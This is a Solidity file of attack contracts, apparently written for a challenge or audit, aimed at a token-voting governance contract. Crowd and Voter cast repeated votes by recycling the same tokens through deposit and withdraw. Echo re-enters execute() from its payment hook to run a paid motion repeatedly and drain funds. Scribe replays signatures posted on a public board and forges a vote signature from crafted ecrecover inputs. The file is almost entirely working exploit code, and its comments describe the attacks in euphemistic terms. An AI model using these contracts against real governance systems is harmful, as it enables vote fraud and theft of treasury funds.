// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Token {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface Council {
    function deposit(uint256 amount) external;
    function withdraw(uint256 amount) external;
    function entrust(address to) external;
    function entrustSigned(address account, address to, uint256 deadline, bytes calldata signature) external;
    function vote(uint256 id, bool support) external;
    function voteSigned(uint256 id, address voter, bool support, bytes calldata signature) external;
    function execute(uint256 id) external;
}

interface Notes {
    function last() external view returns (bytes memory);
}

/// Leaves tokens, makes use of their weight, and gives them back.
contract Voter {
    function go(Council hall, Token token, uint256 amount, uint256 id, address heir) external {
        token.approve(address(hall), amount);
        hall.deposit(amount);
        if (heir == address(0)) hall.vote(id, true);
        else hall.entrust(heir);
        hall.withdraw(amount);
        token.transfer(msg.sender, amount);
    }
}

/// Many voters with the same tokens.
contract Crowd {
    function run(Council hall, Token token, uint256 id, address heir, uint256 times) external {
        uint256 amount = token.balanceOf(address(this));
        for (uint256 i = 0; i < times; i++) {
            Voter voter = new Voter();
            token.transfer(address(voter), amount);
            voter.go(hall, token, amount, id, heir);
        }
        token.transfer(msg.sender, amount);
    }
}

/// Votes with what was entrusted to it, or with tokens of its own.
contract Ally {
    function join(Council hall, Token token) external {
        uint256 amount = token.balanceOf(address(this));
        token.approve(address(hall), amount);
        hall.deposit(amount);
    }

    function vote(Council hall, uint256 id) external {
        hall.vote(id, true);
    }
}

/// Has a motion carried out again while it is being paid.
contract Echo {
    Council private immutable hall;
    address payable private immutable owner;
    uint256 private current;
    uint256 private left;

    constructor(Council target) {
        (hall, owner) = (target, payable(msg.sender));
    }

    function begin(uint256 id, uint256 times) external {
        (current, left) = (id, times);
        hall.execute(id);
        (bool done, ) = owner.call{value: address(this).balance}("");
        require(done);
    }

    receive() external payable {
        if (left == 0) return;
        left -= 1;
        hall.execute(current);
    }
}

/// Hands signatures in: those on the board, or of nobody in particular.
contract Scribe {
    function cast(Council hall, Notes board, uint256 id, address voter, bool support) external {
        hall.voteSigned(id, voter, support, board.last());
    }

    function trust(Council hall, Notes board, address account, address to, uint256 deadline) external {
        hall.entrustSigned(account, to, deadline, board.last());
    }

    function forge(Council hall, uint256 id, address voter, uint256 s) external {
        bytes memory signature = abi.encodePacked(
            bytes32(0x79BE667EF9DCBBAC55A06295CE870B07029BFCDB2DCE28D959F2815B16F81798),
            bytes32(s),
            uint8(27)
        );
        hall.voteSigned(id, voter, true, signature);
    }
}
